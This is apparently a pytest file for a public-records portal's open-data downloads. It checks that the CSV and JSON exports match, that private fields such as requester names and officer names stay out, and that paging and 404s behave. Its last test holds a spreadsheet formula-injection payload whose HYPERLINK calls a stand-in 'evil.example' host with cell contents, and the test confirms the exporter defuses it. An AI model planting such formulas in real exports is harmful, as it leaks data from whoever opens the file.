"""Open data (``/public/data``, ``/api/public/data``): the catalogue lists the released-footage
list and the request log with their data dictionary; each downloads as RFC 4180 CSV and as
JSON that agree with each other and with the public pages; no private field appears; the
lists stream in batches; an unknown dataset is 404. The release list pages in SQL."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient

from sunlight.incidents.models import Incident
from sunlight.incidents.terms import INCIDENT_TYPES
from sunlight.portal import datasets, lists, open_data, views
from sunlight.portal.datasets import Dataset, Field
from sunlight.runtime import Runtime
from sunlight.web.app import create_app
from tests.portal.support import decide
from tests.portal.test_areas import _release

SECRETS = ("Jordan Example", "jordan@example.org", "816-555-0100", "Troost")


@pytest.fixture
def client(runtime: Runtime) -> Iterator[TestClient]:
    with TestClient(create_app(runtime, start_worker=False)) as test_client:
        yield test_client


def _csv(client: TestClient, slug: str) -> list[list[str]]:
    got = client.get(f"/api/public/data/{slug}.csv")
    assert got.status_code == 200, got.text
    assert got.headers["content-type"].startswith("text/csv; charset=utf-8")
    raw = got.content.decode("utf-8")
    assert raw.endswith("\r\n")
    return list(csv.reader(io.StringIO(raw, newline="")))


def _json(client: TestClient, slug: str) -> dict[str, Any]:
    got = client.get(f"/api/public/data/{slug}.json")
    assert got.status_code == 200, got.text
    assert got.headers["content-type"].startswith("application/json")
    body: dict[str, Any] = got.json()
    return body


def _file(client: TestClient, n: int) -> str:
    filed = client.post(
        "/api/public/requests",
        json={
            "name": "Jordan Example",
            "email": "jordan@example.org",
            "phone": "816-555-0100",
            "requester_type": "media" if n % 2 else "public",
            "description": f'Video of the stop on Troost Ave, number {n}, commas, and "quotes".',
        },
    )
    assert filed.status_code == 201, filed.text
    tracking: str = filed.json()["tracking_number"]
    return tracking


def _agree(client: TestClient, slug: str) -> tuple[list[dict[str, str]], dict[str, Any]]:
    """CSV and JSON carry the same fields (the dictionary's, in order) and the same rows."""
    found = datasets.dataset(slug)
    assert found is not None
    names = [f.name for f in found.fields]
    table = _csv(client, slug)
    body = _json(client, slug)
    assert table[0] == names
    assert [f["name"] for f in body["fields"]] == names
    assert body["dataset"] == slug
    datetime.fromisoformat(body["generated_at"])
    as_text = [
        [open_data._cell(row[name]) for name in names]  # JSON values written as CSV cells
        for row in body["rows"]
    ]
    assert table[1:] == as_text
    assert all(list(row) == names for row in body["rows"])
    return [dict(zip(names, row, strict=True)) for row in table[1:]], body


def test_catalogue_and_page_show_each_dataset_with_its_dictionary(client: TestClient) -> None:
    index = client.get("/api/public/data")
    assert index.status_code == 200
    listed = {d["slug"]: d for d in index.json()["datasets"]}
    assert {"releases", "requests"} <= set(listed)
    page = client.get("/public/data")
    assert page.status_code == 200
    html = page.text
    assert "Signed in as" not in html and "<script" not in html and "<style" not in html
    for slug, entry in listed.items():
        found = datasets.dataset(slug)
        assert found is not None
        assert entry["title"] == found.title
        assert entry["csv_url"] == f"/api/public/data/{slug}.csv"
        assert entry["json_url"] == f"/api/public/data/{slug}.json"
        assert [(f["name"], f["type"]) for f in entry["fields"]] == [
            (f.name, f.type) for f in found.fields
        ]
        assert f'id="{slug}"' in html
        assert f'href="/api/public/data/{slug}.csv"' in html
        assert f'href="/api/public/data/{slug}.json"' in html
        for f in found.fields:
            assert f"<code>{f.name}</code>" in html
    assert 'href="/public/data"' in client.get("/public").text


def test_release_list_downloads_agree_with_the_page(runtime: Runtime, client: TestClient) -> None:
    shown = decide(runtime, client, cad="KC26-008001", seal=False)
    other = decide(runtime, client, cad="KC26-008002", type="use-of-force", seal=False)
    hidden = decide(runtime, client, cad="KC26-008003", embargo_until="2099-01-01", seal=False)
    rows, body = _agree(client, "releases")
    ids = [int(r["id"]) for r in rows]
    assert sorted(ids) == sorted([shown.release_id, other.release_id])
    assert hidden.release_id not in ids
    page = client.get("/public/releases").text
    for row in rows:
        assert f'href="/public/releases/{row["id"]}"' in page
        assert row["page"] == f"/public/releases/{row['id']}"
        assert client.get(row["page"]).status_code == 200
        label = INCIDENT_TYPES[str(row["incident_type"])]
        assert f'<td data-label="Incident type">{label}</td>' in page
        assert f'<td data-label="Incident date">{row["incident_date"]}</td>' in page
    # newest release first, as the page lists them
    assert page.index(f"Release {ids[0]}<") < page.index(f"Release {ids[1]}<")
    for row in body["rows"]:
        assert datetime.fromisoformat(row["released_at"]).tzinfo is not None
        date.fromisoformat(row["incident_date"])
    # only the page's fields: nothing from the incident beyond its type and date
    with runtime.db.session(read_only=True) as session:
        incident = session.get(Incident, shown.incident_id)
        assert incident is not None
        private = [incident.cad_number] + [
            v for v in (incident.location, incident.unit, incident.narrative) if v
        ]
        private += [o.officer.name for o in incident.officers]
    assert len(private) >= 2
    for text in (json.dumps(body["rows"]), client.get("/api/public/data/releases.csv").text):
        for secret in private:
            assert secret not in text, secret


def test_request_log_downloads_agree_with_the_log_and_name_no_one(client: TestClient) -> None:
    tracking = [_file(client, n) for n in range(3)]
    rows, body = _agree(client, "requests")
    assert [r["tracking_number"] for r in rows] == list(reversed(tracking))  # newest first
    api = client.get("/api/public/requests").json()
    assert body["rows"] == api
    page = client.get("/public/requests").text
    for row in rows:
        assert row["tracking_number"] in page
    everything = json.dumps(body) + client.get("/api/public/data/requests.csv").text
    for secret in SECRETS:
        assert secret not in everything, secret
    for name in ("name", "email", "phone", "description", "token"):
        assert all(name not in row for row in body["rows"])


def test_unknown_or_odd_dataset_is_404(client: TestClient) -> None:
    for path in (
        "/api/public/data/nothing.csv",
        "/api/public/data/nothing.json",
        "/api/public/data/releases.xml",
    ):
        assert client.get(path).status_code == 404, path
    assert client.get("/api/public/data/Bad_Slug.csv").status_code in (404, 422)
    assert client.get("/api/public/data/releases.csv?limit=0").status_code == 422


def test_limit_gives_the_first_rows(client: TestClient) -> None:
    tracking = [_file(client, n) for n in range(3)]
    body = client.get("/api/public/data/requests.json?limit=2").json()
    assert [r["tracking_number"] for r in body["rows"]] == list(reversed(tracking))[:2]
    table = list(csv.reader(io.StringIO(client.get("/api/public/data/requests.csv?limit=1").text)))
    assert len(table) == 2 and table[1][0] == tracking[-1]


def test_lists_stream_in_batches_and_page_in_sql(runtime: Runtime, client: TestClient) -> None:
    made = [decide(runtime, client, cad=f"KC26-00810{n}", seal=False) for n in range(3)]
    tracking = [_file(client, n) for n in range(3)]
    whole = list(lists.iter_releases(runtime))
    assert list(lists.iter_releases(runtime, batch=1)) == whole
    assert list(lists.iter_releases(runtime, batch=2)) == whole
    assert [r["id"] for r in whole] == [m.release_id for m in reversed(made)]
    now = datetime(2026, 6, 1, tzinfo=UTC)
    entries = [e.tracking_number for e in lists.iter_request_log(runtime, now, batch=2)]
    assert entries == list(reversed(tracking))
    # the page is cut by the database: offset 2, limit 2 is the third-newest release alone
    filters = lists.ReleaseFilter()
    day = whole[0]["incident_date"]
    after = date.fromordinal(day.toordinal() + 1)
    before = date.fromordinal(day.toordinal() - 1)
    with runtime.db.session(read_only=True) as session:
        assert lists.count_releases(session, filters) == 3
        assert lists.releases(session, filters, offset=2, limit=2) == whole[2:]
        assert lists.releases(session, filters, offset=0, limit=2) == whole[:2]
        assert lists.count_releases(session, lists.ReleaseFilter("arrest")) == 0
        assert lists.count_releases(session, lists.ReleaseFilter(None, day, day)) == 3
        assert lists.count_releases(session, lists.ReleaseFilter(None, after, None)) == 0
        assert lists.count_releases(session, lists.ReleaseFilter(None, None, before)) == 0
    found = views.release_page(
        runtime, page=99, now=datetime.now(UTC)
    )  # past the end: the last page
    assert found.page == found.pages == 1 and found.total == 3
    assert found.types == ["officer-involved-shooting"]


def _fixed(runtime: Runtime, now: datetime) -> Iterator[dict[str, object]]:
    yield {"text": 'a, "b"\nc', "n": 1, "on": date(2026, 1, 2), "flag": True, "none": None}
    yield {"text": "ñandú", "n": 2, "on": None, "flag": False, "none": None}


FIXED = Dataset(
    slug="test-fixed",
    title="t",
    description="d",
    fields=(
        Field("text", "string", "x"),
        Field("n", "integer", "x"),
        Field("on", "date", "x"),
        Field("flag", "boolean", "x"),
        Field("none", "string", "x"),
    ),
    rows=_fixed,
)


def test_csv_is_rfc_4180_and_json_keeps_types() -> None:
    now = datetime(2026, 6, 1, 12, tzinfo=UTC)
    rows = list(_fixed(None, now))  # type: ignore[arg-type]
    text = "".join(open_data.csv_chunks(FIXED, rows))
    assert text == (
        'text,n,on,flag,none\r\n"a, ""b""\nc",1,2026-01-02,true,\r\nñandú,2,,false,\r\n'
    )
    body = json.loads("".join(open_data.json_chunks(FIXED, rows, now)))
    assert body == {
        "dataset": "test-fixed",
        "generated_at": "2026-06-01T12:00:00+00:00",
        "fields": [open_data.field_json(f) for f in FIXED.fields],
        "rows": [
            {"text": 'a, "b"\nc', "n": 1, "on": "2026-01-02", "flag": True, "none": None},
            {"text": "ñandú", "n": 2, "on": None, "flag": False, "none": None},
        ],
    }
    empty = json.loads("".join(open_data.json_chunks(FIXED, [], now)))
    assert empty["rows"] == []
    # more rows than one chunk still come out whole and in order
    many = [{"n": i} for i in range(open_data.CHUNK * 2 + 3)]
    assert [
        r["n"] for r in json.loads("".join(open_data.json_chunks(FIXED, many, now)))["rows"]
    ] == [r["n"] for r in many]


def test_spanish_catalogue_covers_every_open_data_string() -> None:
    import re
    from pathlib import Path

    from babel.messages.pofile import read_po

    from sunlight.portal import public_pages

    folder = Path(open_data.__file__).parent
    with (folder / "locale" / "es" / "LC_MESSAGES" / "data.po").open("rb") as handle:
        catalogue = read_po(handle)
    spanish = {m.id: m.string for m in catalogue if m.id}
    wanted = set(public_pages.TYPE_TEXT.values())
    for d in (open_data.RELEASES, open_data.REQUESTS):
        wanted |= {d.title, d.description, *(f.description for f in d.fields)}
    template = (folder / "templates" / "public_data.html").read_text(encoding="utf-8")
    wanted |= set(re.findall(r'_\("([^"]*)"', template))
    assert len(wanted) > 25
    for text in wanted:
        assert spanish.get(text), text
        if "%(title)s" in text:
            assert "%(title)s" in str(spanish[text])


def test_a_cell_a_spreadsheet_would_run_is_written_as_text(
    runtime: Runtime, client: TestClient
) -> None:
    """Text from staff records reaches the open data (an incident's unit as the area, a
    camera's funding source, a unit's name): a cell starting with ``=``, ``+``, ``-``, ``@``
    (or a tab or carriage return) is a formula to a spreadsheet opening the CSV, so it is
    written after a ``'``. The JSON keeps the text as it is; numbers are never touched."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open") Patrol Division'
    done = _release(runtime, client, "KC26-008009", formula)
    table = _csv(client, "releases")
    row = dict(
        zip(table[0], next(r for r in table[1:] if r[0] == str(done.release_id)), strict=True)
    )
    assert row["area"] == "'" + formula
    assert [r["area"] for r in _json(client, "releases")["rows"]] == [formula]
    for text, written in [("@SUM(1)", "'@SUM(1)"), ("+1", "'+1"), ("-1", "'-1"), ("\t=1", "'\t=1")]:
        assert open_data._cell(text) == written
    assert open_data._cell(-1) == "-1" and open_data._cell("R-2026-000001") == "R-2026-000001"
